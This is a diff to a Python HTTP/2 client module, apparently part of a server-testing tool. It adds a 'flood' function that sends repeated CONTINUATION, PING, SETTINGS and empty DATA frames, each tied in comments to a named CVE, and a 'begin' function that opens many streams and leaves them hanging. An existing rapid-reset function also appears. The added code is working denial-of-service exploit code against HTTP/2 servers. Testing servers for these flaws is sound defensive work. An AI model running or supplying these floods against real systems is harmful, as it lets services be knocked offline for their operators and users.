@@ -10,6 +10,7 @@ import hpack
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+_CONTINUATION = 9
 _END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
 
 
@@ -66,6 +67,33 @@ def reset_rapidly(address: str, path: bytes, *, times: int) -> int:
             except OSError:  # the server has had enough
                 return sent
     return times
+
+
+def flood(address: str, path: bytes, *, times: int) -> None:
+    """Send what costs a client nothing, on a connection for each sort, until it has enough."""
+    begun = _frame(_HEADERS, 0, 1, _block(address, path, ()))
+    open_call = _frame(_HEADERS, _END_HEADERS, 1, _block(address, path, ()))
+    large = _frame(_CONTINUATION, 0, 1, _literal(b"x-large", b"a" * 8000))
+    for first, repeated in (
+        (begun, _frame(_CONTINUATION, 0, 1, b"")),  # CVE-2024-27316 and its like
+        (begun, large),
+        (b"", _frame(_PING, 0, 0, bytes(8))),  # CVE-2019-9512
+        (b"", _frame(_SETTINGS, 0, 0, b"")),  # CVE-2019-9515
+        (open_call, _frame(_DATA, 0, 1, b"")),  # CVE-2019-9518
+        (b"", bytes(range(256))),
+    ):
+        with _connect(address, 1.0) as connection, contextlib.suppress(OSError):
+            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + first + repeated * times)
+
+
+def begin(address: str, path: bytes, *, times: int) -> socket.socket:
+    """Begin calls and send no message; they are open as long as the connection."""
+    connection = _connect(address, 10.0)
+    block = _block(address, path, ())
+    streams = (_frame(_HEADERS, _END_HEADERS, 2 * number + 1, block) for number in range(times))
+    with contextlib.suppress(OSError):  # it may have had enough
+        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + b"".join(streams))
+    return connection
 
 
 def _connect(address: str, patience: float) -> socket.socket:
